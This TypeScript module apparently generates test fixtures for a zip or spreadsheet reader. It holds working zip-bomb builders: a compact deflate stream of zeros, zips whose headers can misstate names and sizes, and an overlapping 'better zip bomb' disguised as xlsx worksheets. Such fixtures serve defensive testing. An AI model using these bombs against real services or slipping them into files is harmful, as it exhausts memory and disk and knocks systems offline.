import { constants, createDeflateRaw } from 'node:zlib';

const MiB = 1024 * 1024;

/**
 * A raw deflate stream of `mib` MiB of zeros, built without deflating them all: after the first
 * MiB, every further MiB compresses (with a sync flush) to the same ~1 KB of back-references, so
 * that piece is repeated. 2 GiB comes out at about 2 MiB, the best ratio deflate allows.
 */
export async function zeroDeflate(mib: number): Promise<Buffer> {
  const deflater = createDeflateRaw({ level: 9 });
  const out: Buffer[] = [];
  deflater.on('data', (c: Buffer) => out.push(c));
  const zero = Buffer.alloc(MiB);
  const piece = async () => {
    deflater.write(zero);
    await new Promise<void>((resolve) => deflater.flush(constants.Z_SYNC_FLUSH, () => resolve()));
    return Buffer.concat(out.splice(0));
  };
  const first = await piece();
  const repeated = mib > 1 ? await piece() : Buffer.alloc(0);
  deflater.destroy();
  // A final, empty fixed-Huffman block ends the stream.
  const last = Buffer.from([0x03, 0x00]);
  return Buffer.concat([first, ...Array.from({ length: mib - 1 }, () => repeated), last]);
}

export interface RawEntry {
  name: string;
  /** The bytes stored for the entry (already deflated when method is 8). */
  data: Buffer;
  method?: 0 | 8;
  /** The inflated size both headers declare (the truth is whatever `data` inflates to). */
  size: number;
  /** What the local header says instead, when it should disagree with the central directory. */
  local?: { name?: string; method?: number; size?: number; compressedSize?: number };
}

function localHeader(e: RawEntry): Buffer {
  const name = Buffer.from(e.local?.name ?? e.name);
  const h = Buffer.alloc(30);
  h.writeUInt32LE(0x04034b50, 0);
  h.writeUInt16LE(20, 4);
  h.writeUInt16LE(0x0800, 6);
  h.writeUInt16LE(e.local?.method ?? e.method ?? 8, 8);
  h.writeUInt32LE(e.local?.compressedSize ?? e.data.length, 18);
  h.writeUInt32LE(e.local?.size ?? e.size, 22);
  h.writeUInt16LE(name.length, 26);
  return Buffer.concat([h, name]);
}

function centralHeader(e: RawEntry, offset: number, compressedSize: number): Buffer {
  const name = Buffer.from(e.name);
  const h = Buffer.alloc(46);
  h.writeUInt32LE(0x02014b50, 0);
  h.writeUInt16LE(20, 4);
  h.writeUInt16LE(20, 6);
  h.writeUInt16LE(0x0800, 8);
  h.writeUInt16LE(e.method ?? 8, 10);
  h.writeUInt32LE(compressedSize, 20);
  h.writeUInt32LE(e.size, 24);
  h.writeUInt16LE(name.length, 28);
  h.writeUInt32LE(offset, 42);
  return Buffer.concat([h, name]);
}

function endRecord(count: number, cdSize: number, cdOffset: number): Buffer {
  const h = Buffer.alloc(22);
  h.writeUInt32LE(0x06054b50, 0);
  h.writeUInt16LE(count, 8);
  h.writeUInt16LE(count, 10);
  h.writeUInt32LE(cdSize, 12);
  h.writeUInt32LE(cdOffset, 16);
  return h;
}

/** A zip whose headers say whatever the entries say, true or not. */
export function buildZip(entries: RawEntry[]): Buffer {
  const parts: Buffer[] = [];
  const central: Buffer[] = [];
  let offset = 0;
  for (const e of entries) {
    const local = localHeader(e);
    central.push(centralHeader(e, offset, e.data.length));
    parts.push(local, e.data);
    offset += local.length + e.data.length;
  }
  const cd = Buffer.concat(central);
  return Buffer.concat([...parts, cd, endRecord(entries.length, cd.length, offset)]);
}

/** A stored deflate block (not final) quoting `bytes` verbatim. */
function storedBlock(bytes: Buffer): Buffer {
  const h = Buffer.alloc(5);
  h[0] = 0x00;
  h.writeUInt16LE(bytes.length, 1);
  h.writeUInt16LE(~bytes.length & 0xffff, 3);
  return Buffer.concat([h, bytes]);
}

/**
 * The overlapping "better zip bomb": `count` entries whose data all end in one shared kernel.
 * Entry i's deflate stream quotes the local header of entry i+1 in a stored block and then runs
 * on into entry i+1's data, so each entry inflates to the kernel (plus the quoted headers) while
 * the file holds the kernel once. Headers are truthful, names unique: only the overlap is wrong.
 */
export async function overlappingBomb(count: number, kernelMib: number): Promise<Buffer> {
  const kernel = await zeroDeflate(kernelMib);
  const kernelSize = kernelMib * MiB;
  const names = Array.from({ length: count }, (_, i) => `xl/worksheets/sheet${i + 1}.xml`);
  // From the last entry back: its data, and what it inflates to.
  const datas: Buffer[] = new Array(count);
  const sizes: number[] = new Array(count);
  const headers: Buffer[] = new Array(count);
  datas[count - 1] = kernel;
  sizes[count - 1] = kernelSize;
  headers[count - 1] = localHeader({ name: names[count - 1]!, data: kernel, size: kernelSize });
  for (let i = count - 2; i >= 0; i--) {
    const next = headers[i + 1]!;
    datas[i] = Buffer.concat([storedBlock(next), datas[i + 1]!]);
    sizes[i] = next.length + sizes[i + 1]!;
    headers[i] = localHeader({ name: names[i]!, data: datas[i]!, size: sizes[i]! });
  }
  // Layout: header 0, then entry 0's data, which holds every later header and the kernel.
  const body = Buffer.concat([headers[0]!, datas[0]!]);
  const central: Buffer[] = [];
  let offset = 0;
  for (let i = 0; i < count; i++) {
    central.push(
      centralHeader({ name: names[i]!, data: datas[i]!, size: sizes[i]! }, offset, datas[i]!.length),
    );
    // Entry i+1's header starts right after entry i's header and stored-block header.
    offset += headers[i]!.length + 5;
  }
  const cd = Buffer.concat(central);
  return Buffer.concat([body, cd, endRecord(count, cd.length, body.length)]);
}
